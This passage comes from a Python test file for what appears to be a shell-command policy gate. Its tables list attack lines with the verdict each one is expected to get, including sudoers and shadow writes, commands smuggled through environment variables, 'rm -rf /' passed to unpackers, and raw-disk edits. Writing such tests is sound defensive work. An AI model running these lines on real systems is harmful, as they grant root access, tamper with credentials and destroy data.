    ('(( "a[\\$(touch canary)]" ))', True, "confirm", "defaults.unknown"),
    ("(( 'a[`touch canary`]' ))", True, "confirm", "defaults.unknown"),
    ("echo $(( 1 + 2 ))", True, "allow", "defaults.unmatched"),
    ("n=4; (( n > 3 ))", True, "allow", "defaults.unmatched"),
]


@each(("line", "interactive", "action", "rule"), ATTACK_J)
def test_attack_j_lines_get_the_verdict_their_class_needs(default_policy: Policy, line: str,
                                                          interactive: bool, action: str,
                                                          rule: str | None) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01",
                       interactive=interactive)
    assert (verdict.action, verdict.rule) == (action, rule)


# ---------------------------------------------------------------------------------------------
# Outside attack K: each line of the report and the other members of its class, with the
# verdict and rule of the shipped policy. On main before the fix each was allowed, except the
# lines already held that stand beside them: `SRC/../`, `SRC//..//`, rsync's `SRC/`, `cp -rT`,
# rules naming the program itself (xargs cp/sed/truncate/ln, parallel), git clone and worktree
# add into the folder, a work tree known only at run time.

ATTACK_K_HELD = [
    # finding 1: a recursive copy's source whose last part is `..` (or `.`, a trailing slash, -T)
    # writes DEST/**
    ('cp -r /tmp/tree/sub/.. /etc', 'confirm', 'no-credential-file-writes'),
    ('cd /tmp/tree/sub && cp -r .. /etc', 'confirm', 'no-credential-file-writes'),
    ('cp -rt /etc /tmp/tree/sub/..', 'confirm', 'no-credential-file-writes'),
    ('cp -R /tmp/tree/sub/.. /etc/', 'confirm', 'no-credential-file-writes'),
    ('rsync -r /tmp/tree/sub/.. /etc', 'confirm', 'no-credential-file-writes'),
    ('cp -r /tmp/.. /etc', 'confirm', 'no-credential-file-writes'),
    ('cp -r /tmp/tree/sub/../ /etc', 'confirm', 'no-credential-file-writes'),
    ('cp -a /tmp/tree/sub//..// /etc', 'confirm', 'no-credential-file-writes'),
    ('cp -r -t /etc -- /tmp/tree/sub/..', 'confirm', 'no-credential-file-writes'),
    ('rsync -a /tmp/tree/ /etc', 'confirm', 'no-credential-file-writes'),
    ('cp -rT /tmp/tree /etc', 'confirm', 'no-credential-file-writes'),
    ('mv /tmp/tree/sub/.. /etc', 'confirm', 'no-credential-file-writes'),
    # finding 2: a path appended at run time reaches the writes the program makes
    ('xargs tee', 'confirm', 'no-raw-disk-write'),
    # finding 2: a path appended at run time reaches the writes the program makes
    ('xargs tee -a', 'confirm', 'no-raw-disk-write'),
    ('xargs install /tmp/evil', 'confirm', 'no-raw-disk-write'),
    ('xargs sponge', 'confirm', 'no-raw-disk-write'),
    ('xargs dd of=/dev/null', 'confirm', 'no-raw-disk-write'),
    ('xargs dd', 'confirm', 'no-raw-disk-write'),
    ('xargs cp -t /tmp', 'confirm', 'no-credential-file-cp-links'),
    ('xargs sed -i s/a/b/', 'confirm', 'no-credential-file-sed'),
    ('xargs touch', 'confirm', 'no-raw-disk-write'),
    ('xargs truncate -s0', 'confirm', 'no-log-tampering'),
    ('xargs ln -sf /tmp/x', 'confirm', 'no-log-tampering'),
    ('xargs git checkout', 'confirm', 'no-raw-disk-write'),
    ('xargs -n1 curl -sO', 'confirm', 'no-raw-disk-write'),
    ('parallel tee ::: /etc/sudoers', 'deny', 'no-credential-file-writes'),
    ('parallel install /tmp/evil', 'confirm', 'no-raw-disk-write'),
    # finding 3: git subcommands that write the work tree (-C, --work-tree, GIT_WORK_TREE,
    # core.worktree, the cwd); apply and am write the files the patch names
    ('cd /etc && git apply', 'confirm', 'no-raw-disk-write'),
    ('git -C /etc apply', 'confirm', 'no-raw-disk-write'),
    ('git -C / -C etc apply', 'confirm', 'no-raw-disk-write'),
    ('git --work-tree=/etc checkout HEAD -- sudoers', 'deny', 'no-credential-file-writes'),
    ('git --work-tree /etc restore --source=HEAD -- sudoers.d/k', 'deny', 'no-credential-file-writes'),
    ('git am', 'confirm', 'no-raw-disk-write'),
    ('GIT_WORK_TREE=/etc git checkout main', 'confirm', 'no-credential-file-writes'),
    ('git -C /etc reset --hard', 'confirm', 'no-credential-file-writes'),
    ('git -C /etc stash pop', 'confirm', 'no-credential-file-writes'),
    ('git -C /etc stash', 'confirm', 'no-credential-file-writes'),
    ('git -C /etc stash push -m x', 'confirm', 'no-credential-file-writes'),
    ('git -C /etc merge origin/main', 'confirm', 'no-credential-file-writes'),
    ('git -C /etc pull', 'confirm', 'no-credential-file-writes'),
    ('git -C /etc switch main', 'confirm', 'no-credential-file-writes'),
    ('git -C /etc rebase main', 'confirm', 'no-credential-file-writes'),
    ('git -C /etc cherry-pick abc', 'confirm', 'no-credential-file-writes'),
    ('git clone https://h/r /etc/sudoers.d', 'deny', 'no-credential-file-writes'),
    ('git -C /etc worktree add /etc/sudoers.d', 'deny', 'no-credential-file-writes'),
    ('git -C /etc rm sudoers', 'deny', 'no-credential-file-writes'),
    ('git -C /etc checkout-index -a -f', 'confirm', 'no-credential-file-writes'),
    ('git -c core.worktree=/etc checkout main', 'confirm', 'defaults.unknown'),
    ('git config core.worktree /etc', 'confirm', 'defaults.unknown'),
    ('git --work-tree=$D checkout main', 'confirm', 'defaults.unknown'),
    # finding 5: pagers, editors and options programs take from the environment
    ('ZIPOPT=\'-TT "touch /etc/sudoers.d/x"\' zip -T a.zip b', 'confirm', 'defaults.unknown'),
    ('ZIP=\'-TT "touch /etc/sudoers.d/x"\' zip -T a.zip b', 'confirm', 'defaults.unknown'),
    ("SYSTEMD_PAGER='touch /etc/sudoers.d/x' systemctl status", 'deny', 'no-credential-file-writes'),
    ("SYSTEMD_PAGER='touch /etc/sudoers.d/x' journalctl -u x", 'deny', 'no-credential-file-writes'),
    ("SYSTEMD_EDITOR='touch /etc/sudoers.d/x' systemctl edit x", 'deny', 'no-credential-file-writes'),
    # (held first by root's home, where an unzip with no -d unpacks: attack u30f, finding 18)
    ("UNZIP='-d /etc' unzip a.zip", 'confirm', 'defaults.unknown'),
    ("UNZIPOPT='-d /etc' unzip a.zip", 'confirm', 'defaults.unknown'),
    ("SYSTEMD_LESS='+!touch /etc/sudoers.d/x' journalctl", 'confirm', 'defaults.unknown'),
    ("PSQL_PAGER='touch /etc/sudoers.d/x' psql -c 'select 1'", 'deny', 'no-credential-file-writes'),
    ("PSQL_EDITOR='touch /etc/sudoers.d/x' psql", 'deny', 'no-credential-file-writes'),
    ("PSQLRC=/tmp/rc psql -c 'select 1'", 'confirm', 'defaults.unknown'),
    ("export FCEDIT='touch /etc/sudoers.d/x'", 'deny', 'no-credential-file-writes'),
    ("SUDO_EDITOR='touch /etc/sudoers.d/x' sudoedit /tmp/f", 'deny', 'no-credential-file-writes'),
    ("BROWSER='touch /etc/sudoers.d/x' xdg-open x", 'deny', 'no-credential-file-writes'),
    ("echo 'touch /etc/x' | at -f /dev/stdin now", 'deny', 'no-pipe-into-shell'),
    ("echo 'rm -rf /' | parallel", 'confirm', 'defaults.unknown'),
    ("parallel ::: 'touch /etc/sudoers'", 'deny', 'no-credential-file-writes'),
    ('echo x | rc', 'deny', 'no-pipe-into-shell'),
    ('echo x | es', 'deny', 'no-pipe-into-shell'),
    ('echo x | elvish', 'deny', 'no-pipe-into-shell'),
    ('echo x | nu', 'deny', 'no-pipe-into-shell'),
    ('echo x | xonsh', 'deny', 'no-pipe-into-shell'),
    ('echo x | ipython', 'deny', 'no-pipe-into-shell'),
    ("debugfs -w -R 'rm /etc/shadow' /dev/sda1", 'deny', 'no-raw-disk-write'),
    ('debugfs /dev/sda1', 'deny', 'no-raw-disk-write'),
    ("xfs_db -x -c 'write core.mode 0' /dev/sdb1", 'deny', 'no-raw-disk-write'),
    ('debugfs -w $DEV', 'confirm', 'no-raw-disk-write'),
]


@each(("line", "verdict", "rule"), ATTACK_K_HELD)
def test_attack_k_lines_are_held(default_policy: Policy, line: str, verdict: str, rule: str) -> None:
    found = evaluate(default_policy, line, role="engineer", target="web01", login="root",
                     interactive=False)
    assert (found.action, found.rule) == (verdict, rule), found.commands


# What an exec channel feeds these reads as a program: judged by the gate (finding 6, suspicions).
ATTACK_K_STDIN = [
    ("at -f /dev/stdin now", "shell"), ("at -f /dev/fd/0 now", "shell"), ("at -f - now", "shell"),
    ("at -f/dev/stdin now", "shell"), ("batch -f /dev/stdin", "shell"),
    ("at -q b -f /proc/self/fd/0 now", "shell"), ("parallel", "shell"), ("parallel -j4", "shell"),
    ("rc", "shell"), ("es", "shell"), ("elvish", "shell"), ("nu", "shell"), ("xonsh", "shell"),
    ("ipython", "interpreter"), ("ipython3", "interpreter"), ("at -f /tmp/job now", None),
    ("parallel echo ::: a", None),
]


@each(("command", "reader"), ATTACK_K_STDIN)
def test_attack_k_programs_that_read_their_program_from_stdin(command: str, reader: str | None) -> None:
    assert reads_script_from_stdin(command) == reader


# Everyday lines near attack K's classes: still allowed (git in a repo, xargs with readers and
# compressors, harmless environment options, `at -f FILE`: a script file, not judged, as
# `sh FILE` is not).
ATTACK_K_EVERYDAY = [
    "git status", "git log --oneline", "git diff", "git commit -am x", "git push",
    "cd /srv/app && git pull", "git -C /srv/app pull", "git pull", "git checkout main",
    "git checkout -- README.md", "git stash", "git stash pop", "git reset --hard", "git stash list",
    "git -C /etc stash list", "git -C /etc bisect log",
    "git reset HEAD~1", "git clone https://h/r /srv/app", "cd ~/app && git merge origin/main",
    "git apply --check x.patch", "ls | xargs git add", "find /var/log -name '*.log' | xargs gzip",
    "ls | xargs grep -l x", "ZIPOPT=-9 zip a.zip b", "UNZIP=-qo unzip a.zip",
    "SYSTEMD_PAGER=cat systemctl status nginx", "SYSTEMD_LESS=FRXMK journalctl -u nginx",
    "at -f /tmp/job now", "cp -r /srv/app/.. /srv/backup", "hdparm -I /dev/sda",
    "parallel gzip ::: a b", "git config user.email me@example.com",
]


@each("line", ATTACK_K_EVERYDAY)
def test_attack_k_everyday_lines_stay_allowed(default_policy: Policy, line: str) -> None:
    assert action(default_policy, line) == "allow", parse_commands(line)


def test_a_writer_under_xargs_writes_a_path_known_only_at_run_time() -> None:
    # A rule naming only `>` (no program) sees the appended path (attack K, finding 2).
    policy = small_policy({"name": "w", "action": "deny", "commands": [">"],
                           "paths": ["/etc/sudoers"]})
    for line in ("xargs tee", "xargs install /tmp/evil", "xargs sponge", "xargs dd of=/dev/null"):
        verdict = evaluate(policy, line, role="r", target="t")
        assert verdict.action == "confirm", (line, verdict)
        assert any(c.name == ">" and c.dynamic_args and "(a path appended at run time)" in c.argv
                   for c in verdict.commands), verdict.commands


# Outside attack M: writes through a builtin, git's diff options and variables that name a file,
# and system configuration read from stdin.
ATTACK_M = [
    ("set -o history; history -s 'ALL ALL=(ALL) NOPASSWD: ALL'; history -w /etc/sudoers.d/x",
     "deny", "no-credential-file-writes"),
    ("history -a /etc/sudoers", "deny", "no-credential-file-writes"),
    ("HISTFILE=/etc/sudoers.d/x bash -ic 'history -s x'", "deny", "no-credential-file-writes"),
    ("git -C /srv/r log -1 --format='tformat:x' --output=/etc/sudoers.d/zz", "deny",
     "no-credential-file-writes"),
    ("git show --outp=/etc/sudoers.d/z", "deny", "no-credential-file-writes"),
    ("git diff --output /etc/sudoers", "deny", "no-credential-file-writes"),
    ("GIT_TRACE=/etc/sudoers git status", "deny", "no-credential-file-writes"),
    ("SSLKEYLOGFILE=/etc/sudoers.d/k curl https://example.org", "deny",
     "no-credential-file-writes"),
    # (held as writes of files known only at run time since attack O: ATTACK_O)
    ("systemd-tmpfiles --create -", "confirm", "no-raw-disk-write"),
    ("systemd-sysusers -", "confirm", "no-raw-disk-write"),
    ("systemd-sysusers /dev/stdin", "confirm", "no-raw-disk-write"),
    ("gunzip -f -S .x /etc/sudoers.x", "confirm", "no-credential-file-writes"),
    ("gzip -dN /etc/a.gz", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && gunzip -N a.gz", "deny", "no-credential-file-writes"),
    ("git -C /srv/r -c include.path=/tmp/f status", "confirm", "defaults.unknown"),
    ("git config include.path /tmp/f", "confirm", "defaults.unknown"),
    ("git -c includeIf.gitdir:/srv/.path=/tmp/f status", "confirm", "defaults.unknown"),
    # everyday
    ("gunzip /var/log/x.gz", "allow", "defaults.unmatched"),
    ("git config user.name x", "allow", "defaults.unmatched"),
    ("git config --get include.path", "allow", "defaults.unmatched"),
    ("git log --oneline -5", "allow", "defaults.unmatched"),
    ("git diff --output-indicator-new=+", "allow", "defaults.unmatched"),
    ("git log --output=/tmp/log.txt", "allow", "defaults.unmatched"),
    ("history", "allow", "defaults.unmatched"),
    ("systemd-tmpfiles --create", "allow", "defaults.unmatched"),
]


@each(("line", "action", "rule"), ATTACK_M)
def test_attack_m_lines_get_the_verdict_their_class_needs(default_policy: Policy, line: str,
                                                          action: str, rule: str) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01", interactive=False)
    assert (verdict.action, verdict.rule) == (action, rule)


# Variables naming a file a program writes are a write (`>`) of that file, however they are set,
# so every rule naming `>` with paths sees them (not names listed in one shipped rule).
WRITTEN_BY_A_VARIABLE = [
    ("HISTFILE=/etc/sudoers.d/x bash -ic 'history -s x'", "/etc/sudoers.d/x"),
    ("export HISTFILE=/etc/sudoers", "/etc/sudoers"),
    ("HISTFILE=/etc/shadow", "/etc/shadow"),  # bash itself writes it at exit
    ("declare -x PSQL_HISTORY=/etc/passwd; psql", "/etc/passwd"),
    ("env MYSQL_HISTFILE=/etc/shadow mysql", "/etc/shadow"),
    ("SQLITE_HISTORY=/etc/group sqlite3 db", "/etc/group"),
    ("NODE_REPL_HISTORY=/etc/gshadow node", "/etc/gshadow"),
    ("REDISCLI_HISTFILE=/etc/sudoers redis-cli", "/etc/sudoers"),
    ("PYTHON_HISTORY=/etc/sudoers python3", "/etc/sudoers"),
    ("LESSHISTFILE=/etc/sudoers less f", "/etc/sudoers"),
    ("RANDFILE=/etc/shadow openssl rand 8", "/etc/shadow"),
    ("SSLKEYLOGFILE=/etc/sudoers.d/k curl https://example.org", "/etc/sudoers.d/k"),
    ("GIT_INDEX_FILE=/etc/passwd git add x", "/etc/passwd"),
    ("GIT_TRACE=/etc/sudoers git status", "/etc/sudoers"),
    ("GIT_TRACE_PACKET=/etc/shadow git fetch", "/etc/shadow"),
    ("GIT_TRACE2_EVENT=/etc/sudoers git status", "/etc/sudoers"),
    ("XAUTHORITY=/etc/shadow xauth add x . 00", "/etc/shadow"),
    ("KRB5CCNAME=FILE:/etc/shadow kinit bob", "/etc/shadow"),
    ("cd /etc && HISTFILE=shadow bash", "/etc/shadow"),
]


@each(("line", "path"), WRITTEN_BY_A_VARIABLE)
def test_a_variable_naming_a_file_a_program_writes_is_a_write_of_it(default_policy: Policy, line: str,
                                                                      path: str) -> None:
    assert any(c.name == ">" and any(p.text == path for p in c.paths) for c in parse_commands(line))
    verdict = evaluate(default_policy, line, role="engineer", target="web01", interactive=False)
    assert (verdict.action, verdict.rule) == ("deny", "no-credential-file-writes"), verdict


@each(("line", "action", "rule"), [
    # any rule naming `>` with paths sees them: logs too
    ("HISTFILE=/var/log/auth.log bash", "deny", "no-log-tampering"),
    # a folder files are made in, and ld.so's FILE.PID: patterns that may meet the rule's paths
    ("GNUPGHOME=/etc/sudoers.d ls", "confirm", "no-credential-file-writes"),
    # (before gpg, GNUPGHOME moves gpg's settings files: unknown first, b37f finding 2)
    ("GNUPGHOME=/etc/sudoers.d gpg --list-keys", "confirm", "defaults.unknown"),
    ("LD_DEBUG_OUTPUT=/etc/sudoers.d/x ls", "confirm", "no-credential-file-writes"),
    ("HISTFILE=$f bash", "confirm", "no-history-off"),  # known only at run time
    # no file: git's traces to stderr or a descriptor, a keyring, the file turned off
    ("GIT_TRACE=1 git status", "allow", "defaults.unmatched"),
    ("GIT_TRACE=true git status", "allow", "defaults.unmatched"),
    ("GIT_TRACE=etc/sudoers git status", "allow", "defaults.unmatched"),  # git: absolute only
    ("KRB5CCNAME=KEYRING:persistent:0 kinit bob", "allow", "defaults.unmatched"),
    ("PSQL_HISTORY= psql", "allow", "defaults.unmatched"),
    ("HISTFILE=~/.history.d/bash", "allow", "defaults.unmatched"),
    ("GIT_TRACE=/tmp/trace git status", "allow", "defaults.unmatched"),
])
def test_variables_naming_files_elsewhere_or_none(default_policy: Policy, line: str, action: str,
                                                  rule: str) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01", interactive=False)
    assert (verdict.action, verdict.rule) == (action, rule), verdict


def test_the_shipped_rule_names_no_variables_the_writes_table_reads() -> None:
    # One fact in one place: the variables are in the policy's table, not in a rule's commands.
    from bastion.command_control.policy.variables import _WRITTEN_FILES

    with POLICY_FILE.open("rb") as handle:
        rules = tomllib.load(handle)["rules"]
    named = {c for rule in rules if rule["name"] == "no-credential-file-writes" for c in rule["commands"]}
    assert not named & {f"{name}=" for name in _WRITTEN_FILES}


@each(("line", "reads"), [
    ("python3 -m asyncio", "interpreter"),
    ("ninja -f /dev/stdin", "interpreter"),
    ("cmake -P /dev/stdin", "interpreter"),
    ("busybox hush", "shell"),
    ("ninja -f build.ninja", None),
    ("cmake -P x.cmake", None),
    ("cmake -S . -B build", None),
    # finding 11, the class: debuggers, shells with other option grammars, REPLs, crontab
    ("gdb", "interpreter"),
    ("gdb -batch", "interpreter"),  # gdb 13 reads nothing so, but it runs nothing either
    ("gdb -p 42", "interpreter"),
    ("gdb -ex bt ./prog core", "interpreter"),  # not batch: a prompt after the commands
    ("lldb", "interpreter"),
    ("lldb -b", "interpreter"),
    ("lldb -o bt ./prog", "interpreter"),
    ("elvish -norc", "shell"),
    ("elvish --norc -", "shell"),
    ("elvish -rc /dev/stdin", "shell"),
    ("nu -n", "shell"),
    ("xonsh -D X=1", "shell"),
    ("sbcl", "interpreter"),
    ("sbcl --non-interactive --load /dev/stdin", "interpreter"),
    ("sbcl --load x.lisp", "interpreter"),  # loads it, then a prompt
    ("ghci x.hs", "interpreter"),
    ("swipl x.pl", "interpreter"),
    ("erl", "interpreter"),
    ("iex", "interpreter"),
    ("groovysh", "interpreter"),
    ("kotlinc", "interpreter"),
    ("julia", "interpreter"),
    ("julia -i x.jl", "interpreter"),
    ("julia /dev/fd/0", "interpreter"),
    ("guile", "interpreter"),
    ("guile -l x.scm", "interpreter"),
    ("clisp", "interpreter"),
    ("racket", "interpreter"),
    ("ocaml -stdin", "interpreter"),
    ("deno run -", "interpreter"),
    ("deno repl", "interpreter"),
    ("bun run /dev/stdin", "interpreter"),
    ("bpython", "interpreter"),
    ("pry", "interpreter"),
    ("crontab", "interpreter"),
    ("crontab -", "interpreter"),
    ("crontab -u bob /proc/self/fd/0", "interpreter"),
    ("psql -f /dev/stdin", "interpreter"),
    ("sftp -b /dev/stdin host", "interpreter"),
    ("dc -f -", "interpreter"),
    ("vim -es", "interpreter"),
    ("sqlite3 db", "interpreter"),
    ("tclsh", "interpreter"),
    ("expect", "interpreter"),
    ("jshell -", "interpreter"),
    ("Rscript /dev/stdin", "interpreter"),
    ("perl -x - arg", "interpreter"),
    ("sed -f /proc/self/fd/0 x", "interpreter"),
    ("busybox ed", "interpreter"),
    ("at -f /dev/stdin now", "shell"),
    # their honest forms
    ("gdb -batch -ex bt ./prog core", None),
    ("gdb --batch --eval-command=bt -p 42", None),
    ("gdb --version", None),
    ("lldb -b -o bt -c core ./prog", None),
    ("lldb --batch -o 'thread backtrace all' -p 42", None),
    ("elvish x.elv", None),
    ("elvish -compileonly x.elv", None),
    ("nu x.nu", None),
    ("sbcl --script x.lisp", None),
    ("sbcl --version", None),
    ("ghci -e 1+1", None),
    ("erl -noshell -s init stop", None),
    ("kotlinc -script x.kts", None),
    ("julia x.jl", None),
    ("julia -e 'println(1)'", None),
    ("guile x.scm", None),
    ("racket x.rkt", None),
    ("ocaml x.ml", None),
    ("deno run x.ts", None),
    ("crontab -l", None),
    ("crontab -u bob -l", None),
    ("crontab jobs.txt", None),
    ("sqlite3 db 'select 1'", None),
    ("psql -c 'select 1'", None),
    ("psql -f x.sql", None),
    ("sftp -b batch.txt host", None),
    ("bc", None),  # no way to run a program from bc's language
    ("bc -l x.bc", None),
    ("sudo -S true", None),  # reads a password: a reader of stdin, not of a program
])
def test_attack_m_programs_that_read_their_program_from_stdin(line: str, reads: str | None) -> None:
    from bastion.command_control.policy import reads_script_from_stdin

    assert reads_script_from_stdin(line) == reads


# Outside attack M, findings 5, 6, 7 and 9: where a copy, link, move or rename lands. Each
# attack's class is judged as what lands (DEST/NAME, DEST/**, a folder's whole tree), so the
# honest half below stays allowed when nothing it can touch is protected.
ATTACK_M_COPIES = [
    # 5: names kept from the source, or read from a file
    ("cd /src && cp --parents etc/sudoers /", "deny", "no-credential-file-writes"),
    ("cp -r --parents etc/sudoers.d/evil /", "deny", "no-credential-file-writes"),
    ("rsync -R /src/./etc/sudoers /", "deny", "no-credential-file-writes"),
    ("rsync --relative /src/./etc/sudoers.d/x /", "deny", "no-credential-file-writes"),
    ("rsync -b --backup-dir=/etc/sudoers.d /src/new /src/old", "confirm", "no-credential-file-writes"),
    ("rsync --only-write-batch=/etc/sudoers.d/b /src/a /src/b", "deny", "no-credential-file-writes"),
    ("rsync --write-batch /etc/sudoers /src/a /src/b", "deny", "no-credential-file-writes"),
    ("rsync -r --files-from=/src/list /src /etc", "confirm", "no-credential-file-writes"),
    # 6: a destination that find, xargs or parallel fill in
    ("find /etc -maxdepth 0 -exec cp /src/etc/sudoers {} \\;", "deny", "no-credential-file-writes"),
    ("find /etc -maxdepth 0 -exec cp -t {} /src/etc/sudoers \\;", "deny", "no-credential-file-writes"),
    ("find /etc -maxdepth 0 -exec cp -r /src/etc/sudoers.d {} \\;", "deny", "no-credential-file-writes"),
    ("find /etc/sudoers.d -exec cp /src/x {} \\;", "deny", "no-credential-file-writes"),
    ("echo /etc | xargs -I{} cp /src/sudoers {}", "confirm", "no-credential-file-cp-links"),
    ("echo /etc | xargs cp -t", "confirm", "defaults.unknown"),
    ("parallel cp /src/x ::: /etc/sudoers", "deny", "no-credential-file-writes"),
    # 7: a new name for, or a move of, a folder above the files
    ("ln -sfn /etc /tmp/e && echo x >> /tmp/e/sudoers.d/x", "deny", "no-credential-file-links"),
    ("cp -rs /etc /tmp/e", "deny", "no-credential-file-cp-links"),
    ("cp -rl /etc /tmp/e", "deny", "no-credential-file-cp-links"),
    ("mv /etc /tmp/v", "deny", "no-credential-file-writes"),
    ("cd / && mv etc /tmp/v", "deny", "no-credential-file-writes"),
    ("mv -t /tmp /etc/sudoers.d", "deny", "no-credential-file-writes"),
    ("ln /etc/sudoers /tmp/s", "deny", "no-credential-file-links"),
    ("ln -s ../etc /tmp/e && echo x >> /tmp/e/sudoers.d/x", "deny", "no-credential-file-links"),
    ("ln -s -t /tmp ../etc", "deny", "no-credential-file-links"),
    ("ln -s ../../etc /srv/x", "deny", "no-credential-file-links"),
    ("cp -r --sym /etc /tmp/e", "deny", "no-credential-file-cp-links"),
    ("rsync -a --link-dest=/etc /src/ /tmp/x", "deny", "no-credential-file-writes"),
    ("rsync -a --link-dest ../../etc /src/ /tmp/x", "deny", "no-credential-file-writes"),
    ("mount --bind /tmp/x /etc", "confirm", "no-credential-file-writes"),
    # 9: computed names
    ("cp /src/x /etc/x && rename.ul x sudoers /etc/x", "deny", "no-credential-file-writes"),
    ("rename 's/x$/sudoers/' /etc/x", "deny", "no-credential-file-writes"),
    ("rename 's/\\.x$//' /etc/sudoers*.x", "confirm", "no-credential-file-writes"),
    ("prename 's/x/sudoers/' /etc/*", "deny", "no-root-wipe-glob"),  # /etc/* moved away (j19f)
    ("perl-rename 's/\\/tmp/\\/etc/' /tmp/sudoers", "confirm", "no-raw-disk-write"),
    ("file-rename 's/^/sudoers/' etc/x", "confirm", "no-raw-disk-write"),
    # the class's other members
    ("install -D /src/x /etc/sudoers.d/x", "deny", "no-credential-file-writes"),
    ("cp -t /etc /src/sudoers", "deny", "no-credential-file-writes"),
    ("mv -t /etc/sudoers.d /src/x", "deny", "no-credential-file-writes"),
    ("rsync --mkpath /src/x /etc/sudoers.d/x", "deny", "no-credential-file-writes"),
    ("dd if=/src/x of=/etc/sudoers", "deny", "no-credential-file-writes"),
    ("sponge /etc/sudoers", "deny", "no-credential-file-writes"),
    ("git worktree add /etc/sudoers.d", "deny", "no-credential-file-writes"),
    ("tar -xf a.tar -C /etc", "confirm", "no-credential-file-writes"),
    ("cd /etc && tar xf a.tar", "confirm", "no-credential-file-writes"),
    ("tar -xPf a.tar", "confirm", "no-raw-disk-write"),
    ("unzip -o a.zip -d /etc/sudoers.d", "confirm", "no-credential-file-writes"),
    ("cd /src && find . | cpio -p /etc", "confirm", "no-credential-file-writes"),
    ("cpio -i -D /etc/sudoers.d < a.cpio", "confirm", "no-credential-file-writes"),
    # m2, named after -C, lands at /etc/sudoers.d/m2 (attack u30f, finding 18)
    ("tar -xf a.tar m1 -C /etc/sudoers.d m2", "deny", "no-credential-file-writes"),
    # attack Q, finding 2: every unpacker writes DIR/** of its folder (here when none is given)
    ("cd /etc/sudoers.d && ar x a.ar", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && ar -xv a.ar", "confirm", "no-credential-file-writes"),
    ("ar --output=/etc/sudoers.d x a.ar", "confirm", "no-credential-file-writes"),
    ("ar --out /etc x a.ar", "confirm", "no-credential-file-writes"),
    ("ar rc /etc/sudoers.d/x a.o", "deny", "no-credential-file-writes"),
    ("cd /etc && ar -M < script.mri", "confirm", "no-raw-disk-write"),
    ("cd /etc/sudoers.d && busybox ar -x a.ar", "confirm", "no-credential-file-writes"),
    ("dpkg-deb -x a.deb /etc/sudoers.d", "confirm", "no-credential-file-writes"),
    ("dpkg-deb --vextract a.deb /etc", "confirm", "no-credential-file-writes"),
    ("dpkg-deb -R a.deb /etc", "confirm", "no-credential-file-writes"),
    ("dpkg-deb --raw-ex a.deb /etc", "confirm", "no-credential-file-writes"),
    ("dpkg-deb -e a.deb /etc/sudoers.d", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && dpkg-deb --control a.deb x", "confirm", "no-credential-file-writes"),
    ("dpkg-deb -b pkg /etc/sudoers.d/x", "deny", "no-credential-file-writes"),
    ("dpkg -x a.deb /etc", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && jar xf a.jar", "confirm", "no-credential-file-writes"),
    ("jar -x -f a.jar -C /etc", "confirm", "no-credential-file-writes"),
    ("jar --extract --file a.jar --dir=/etc/sudoers.d", "confirm", "no-credential-file-writes"),
    ("jar cf /etc/sudoers.d/x a.class", "deny", "no-credential-file-writes"),
    ("cd /etc && fastjar xf a.jar", "confirm", "no-credential-file-writes"),
    ("bsdtar -xf a.tar -C /etc", "confirm", "no-credential-file-writes"),
    ("bsdtar -x -f a.tar --cd /etc/sudoers.d", "confirm", "no-credential-file-writes"),
    ("bsdtar -xPf a.tar", "confirm", "no-raw-disk-write"),
    ("cd /etc && pax -r < a.pax", "confirm", "no-raw-disk-write"),
    ("pax -r -f a.pax", "confirm", "no-raw-disk-write"),
    ("pax -rw src /etc", "confirm", "no-credential-file-writes"),
    ("7z x a.7z -o/etc", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && 7za e a.7z", "confirm", "no-credential-file-writes"),
    ("7zr x -spf a.7z", "confirm", "no-raw-disk-write"),
    ("7z a /etc/sudoers.d/x f", "deny", "no-credential-file-writes"),
    ("unsquashfs -d /etc/sudoers.d -f a.sqfs", "confirm", "no-credential-file-writes"),
    ("unsquashfs -dest /etc -f a.sqfs", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && unrar x a.rar", "confirm", "no-credential-file-writes"),
    ("unrar x a.rar /etc/", "confirm", "no-credential-file-writes"),
    ("unrar x -op/etc a.rar", "confirm", "no-credential-file-writes"),
    ("unar -o /etc a.rar", "confirm", "no-credential-file-writes"),
    ("unar -output-directory /etc/sudoers.d a.rar", "confirm", "no-credential-file-writes"),
    ("cabextract -d /etc a.cab", "confirm", "no-credential-file-writes"),
    ("cabextract --directory=/etc a.cab", "confirm", "no-credential-file-writes"),
    ("lha xw=/etc a.lzh", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && lhasa x a.lzh", "confirm", "no-credential-file-writes"),
    ("arj x a.arj /etc/", "confirm", "no-credential-file-writes"),
    ("unace x a.ace /etc/", "confirm", "no-credential-file-writes"),
    ("gem unpack a.gem --target=/etc", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && rpm2archive a.rpm", "confirm", "no-credential-file-writes"),
    ("python3 -m zipfile -e a.zip /etc", "confirm", "no-credential-file-writes"),
    ("python3 -m tarfile -e a.tar /etc/sudoers.d", "confirm", "no-credential-file-writes"),
    ("cd /etc && python3.12 -mtarfile --extract a.tar", "confirm", "no-credential-file-writes"),
    ("cd /etc && busybox rpm2cpio a.rpm | busybox cpio -idm", "confirm", "no-credential-file-writes"),
    ("cd /etc && p7zip -d a.7z", "confirm", "no-credential-file-writes"),
    ("ls *.zip | xargs -n1 unzip", "confirm", "no-raw-disk-write"),
    # code an unpacker runs
    ("cpio -i --no-absolute-filenames --to-command='rm -rf /' < a.cpio", "deny", "no-root-wipe"),
    ("bsdtar -xf a.tar --use-compress-program='rm -rf /'", "deny", "no-root-wipe"),
    ("ar --plugin /tmp/x.so t lib.a", "confirm", "defaults.unknown"),
    ("jar -J-javaagent:/tmp/a.jar tf a.jar", "confirm", "defaults.unknown"),
    # the same programs under other names
    ("cd /etc/sudoers.d && x86_64-linux-gnu-ar x a.ar", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && llvm-ar-15 x a.ar", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && gcc-ar x a.ar", "confirm", "no-credential-file-writes"),
    ("gtar -xf a.tar -C /etc", "confirm", "no-credential-file-writes"),
    ("cd /etc && gnutar xf a.tar", "confirm", "no-credential-file-writes"),
